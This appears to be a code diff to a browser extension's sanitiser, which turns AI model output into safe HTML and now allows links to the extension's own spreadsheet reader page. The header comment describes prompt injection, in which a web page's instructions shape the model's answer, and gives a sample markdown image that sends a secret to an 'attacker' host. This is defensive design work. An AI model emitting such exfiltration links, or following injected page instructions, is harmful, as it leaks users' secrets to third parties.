@@ -2,7 +2,8 @@
  * Model output → safe HTML: marked (GFM) renders, DOMPurify sanitises through a strict allowlist. An answer
  * may have been written by a page's injected instructions, so nothing in it may make a request by being
  * rendered: no element or attribute that loads a resource (images, media, frames, SVG, MathML, CSS, forms,
- * meta, base…), no `style`, `class`, `id` or `on*`, and links only to http(s) and mailto, opened in a new
+ * meta, base…), no `style`, `class`, `id` or `on*`, and links only to http(s) and mailto (and the extension's
+ * spreadsheet reader page with a checked range), opened in a new
  * tab without opener or referrer. Images become links, so ![](https://attacker/?q=<secret>) needs a click.
  * Links carry the destination the panel shows beside them (`data-host`, `title`) and are marked
  * (`data-suspicious`) when they carry data; these attributes are set here, after the model's are removed.
@@ -11,6 +12,7 @@
 import DOMPurify, { type DOMPurify as Purifier } from 'dompurify';
 import { Marked } from 'marked';
 import { describeLink } from './describe-link';
+import { ownSheetView } from './own-sheet-view';
 import { t } from './t';
 
 const ALLOWED_TAGS = [
@@ -68,7 +70,8 @@ const TRUST_ATTR = 'data-tw-trust';
 /** Attributes that are never URLs; DOMPurify would otherwise hold their values to SAFE_HREF too. */
 const PLAIN_ATTR = ['align', 'colspan', 'rowspan', 'start', TRUST_ATTR];
 const ALLOWED_ATTR = ['href', ...PLAIN_ATTR];
-const SAFE_HREF = /^(?:https?:|mailto:)/i;
+/** chrome-extension: only for the reader page, checked whole in the hook below (own-sheet-view.ts). */
+const SAFE_HREF = /^(?:https?:|mailto:|chrome-extension:)/i;
 
 const ALLOWED_TAG_SET = new Set(ALLOWED_TAGS);
 /**
@@ -125,7 +128,12 @@ function getPurifier(): Purifier {
       return;
     }
     const link = describeLink(node.getAttribute('href') ?? '');
-    if (link) {
+    const reader = link ? undefined : ownSheetView(node.getAttribute('href') ?? '');
+    if (reader) {
+      node.setAttribute('href', reader);
+      node.setAttribute('title', reader);
+      node.setAttribute('data-host', t('sheet_view_host'));
+    } else if (link) {
       node.setAttribute('title', node.getAttribute('href') ?? '');
       node.setAttribute('data-host', link.host);
       if (link.suspicious) node.setAttribute('data-suspicious', link.suspicious);
